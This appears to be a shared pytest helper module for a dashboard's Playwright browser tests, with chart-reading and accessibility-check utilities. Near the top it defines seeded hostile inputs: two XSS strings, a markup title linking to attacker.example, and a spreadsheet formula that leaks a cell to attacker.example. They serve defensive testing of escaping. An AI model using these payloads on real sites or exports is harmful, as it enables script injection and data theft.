"""What the dashboard's browser tests share: Chromium's flags, the seeded oddities, and ways to
open a chart and read what it drew."""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from dashboard.packing import unpack

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--no-first-run", "--disable-sync",
]  # fmt: skip
XSS = ["<script>alert('xss')</script> terrible service", "<img src=x onerror=alert(2)> so bad"]
# A statement whose title is markup: shown as text wherever the page shows titles.
HTML_TITLE = '<a href="https://attacker.example/">Click</a> <b style="color:red">now</b>'
# A text a spreadsheet would run as a formula, were it written as it is.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "click me") worst airline'

DESKTOP, PHONE = {"width": 1440, "height": 900}, {"width": 390, "height": 844}
AXE = Path(__file__).resolve().parents[1] / "data" / "axe" / "axe.min.js"
WEEK = {"entity": "northwind-air", "freq": "week", "since": "2025-06-02", "until": "2025-08-31"}

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is missing")


def axe_problems(page: Any) -> list[str]:
    """Serious and critical violations axe-core finds on the page as it stands."""
    page.add_script_tag(path=str(AXE))
    found: list[str] = page.evaluate(
        """async () => (await axe.run(document, { resultTypes: ['violations'] })).violations
            .filter(v => v.impact === 'serious' || v.impact === 'critical')
            .map(v => `${v.id}: ${v.help} (${v.nodes.map(n => n.target.join(' ')).join(', ')})`)"""
    )
    return found


def open_chart(page: Any, site: str, **params: str) -> None:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    page.goto(f"{site}/?{query}")
    page.wait_for_function("document.getElementById('chart').dataset.points !== undefined")


def trace_points(page: Any) -> dict[str, int]:
    return page.evaluate(
        """() => Object.fromEntries(document.getElementById('chart').data
            .filter(t => t.meta && t.meta.role === 'voice').map(t => [t.meta.voice, t.x.length]))"""
    )


def figure_body(site: str, **params: str) -> dict[str, Any]:
    body: dict[str, Any] = httpx.get(f"{site}/dashboard/figure", params=params, timeout=30).json()
    return body


def expected_periods(site: str, **params: str) -> list[str]:
    """The period labels: the x of the voice lines the server packed."""
    figure = unpack(figure_body(site, **params)["figure"])
    periods: list[str] = next(t["x"] for t in figure["data"] if t["meta"]["role"] == "voice")
    return periods


def period_value(page: Any, label: str) -> str:
    """The "Open period" option of the period labelled ``label``."""
    return str(page.evaluate("(label) => current.periods.indexOf(label)", label))


def drawn(page: Any, role: str, voice: str | None = None) -> list[float | None]:
    """The y values of the chart's trace with ``role`` (and ``voice``), as drawn."""
    found: list[float | None] = page.evaluate(
        """([role, voice]) => document.getElementById('chart').data
            .find(t => t.meta && t.meta.role === role && (!voice || t.meta.voice === voice)).y""",
        [role, voice],
    )
    return found


def chart_traces(page: Any, chart: str = "chart") -> list[dict[str, Any]]:
    """Every trace the chart drew, as data: its meta (role, voice), name, points and axes."""
    found: list[dict[str, Any]] = page.evaluate(
        """(id) => document.getElementById(id).data.map(t => ({
            meta: t.meta || {}, name: t.name, x: t.x, y: t.y, text: t.text || null,
            customdata: t.customdata || null, xaxis: t.xaxis || 'x', yaxis: t.yaxis || 'y',
            fill: t.fill || null, fillcolor: t.fillcolor || null, line: t.line || {},
            legendgroup: t.legendgroup || null, hoverinfo: t.hoverinfo || null,
            visible: t.visible === undefined ? true : t.visible}))""",
        chart,
    )
    return found


def one_trace(traces: list[dict[str, Any]], role: str, **meta: str) -> dict[str, Any]:
    """The one trace of ``role`` whose meta holds ``meta`` (voice="public", rosier=...)."""
    (found,) = [
        t for t in traces
        if t["meta"].get("role") == role and all(t["meta"].get(k) == v for k, v in meta.items())
    ]  # fmt: skip
    return found


def chart_pixels(
    page: Any, axes: tuple[str, str], points: list[tuple[str, float]]
) -> list[tuple[float, float]]:
    """Where the chart draws each (x, y) on its axes ``axes`` ("x", "y3"), in pixels from its
    top left corner: Plotly's own data-to-pixel conversion, plus the plot area's offset."""
    found: list[tuple[float, float]] = page.evaluate(
        """([xa, ya, points]) => {
            const full = document.getElementById('chart')._fullLayout;
            const xaxis = full[xa.replace('x', 'xaxis')], yaxis = full[ya.replace('y', 'yaxis')];
            return points.map(([x, y]) =>
                [xaxis._offset + xaxis.d2p(x), yaxis._offset + yaxis.d2p(y)]);
        }""",
        [*axes, points],
    )
    return [(x, y) for x, y in found]


def hover_label(page: Any, axes: tuple[str, str], x: str, y: float) -> list[str]:
    """Moves the mouse onto the point (x, y) of the chart and reads the hover label it shows,
    one line of the label an item."""
    page.locator("#chart").scroll_into_view_if_needed()
    ((left, top),) = chart_pixels(page, axes, [(x, y)])
    box = page.locator("#chart").bounding_box()
    page.mouse.move(box["x"] + left, box["y"] + top, steps=4)
    page.wait_for_selector("#chart .hoverlayer .hovertext")
    return svg_lines(page, "#chart .hoverlayer .hovertext text.nums")[0]


def svg_lines(page: Any, selector: str) -> list[list[str]]:
    """The text of each SVG element matching ``selector``, as its lines: Plotly draws each
    <br> of a label as a tspan of class "line"."""
    found: list[list[str]] = page.evaluate(
        """(selector) => [...document.querySelectorAll(selector)].map(el => {
            const lines = [...el.querySelectorAll('tspan.line')].map(t => t.textContent);
            return lines.length ? lines : [el.textContent];
        })""",
        selector,
    )
    return found


def open_compare(page: Any, site: str, **params: str) -> None:
    """The compare view of ``params``, once its leaderboard is filled."""
    page.goto(f"{site}/?{urlencode({**params, 'mode': 'compare'})}")
    page.wait_for_selector("#leaderboard tr td")
